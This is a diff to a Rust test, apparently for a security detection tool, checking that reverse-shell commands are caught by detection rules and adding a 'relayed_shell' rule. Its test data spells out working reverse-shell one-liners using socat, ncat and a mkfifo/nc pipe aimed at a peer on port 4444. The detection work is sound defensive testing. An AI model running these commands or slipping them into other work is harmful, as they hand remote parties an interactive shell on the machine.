@@ -62,12 +62,16 @@ subprocess.call([\"/bin/sh\", \"-i\"])'",
 fn a_shell_behind_a_relay_is_told() {
     needs_root!();
     let scripts = [
-        "socat TCP:$PEER:4444 EXEC:'bash -i',pty,stderr,setsid,sigint,sane || true",
+        "socat TCP:$PEER:4444 EXEC:'bash -i',pty,stderr,setsid,ctty,sigint,sane || true",
         "ncat --sh-exec 'bash -i 2>&1' $PEER 4444 || true",
         "mkfifo f; cat f | sh -i 2>&1 | nc.traditional $PEER 4444 > f || true",
     ];
     for script in scripts {
-        calls(script).of_any(&["network/reverse_shell.yml", "network/shell_in_clear_text.yml"]);
+        calls(script).of_any(&[
+            "network/reverse_shell.yml",
+            "network/shell_in_clear_text.yml",
+            "network/relayed_shell.yml",
+        ]);
     }
 }
 
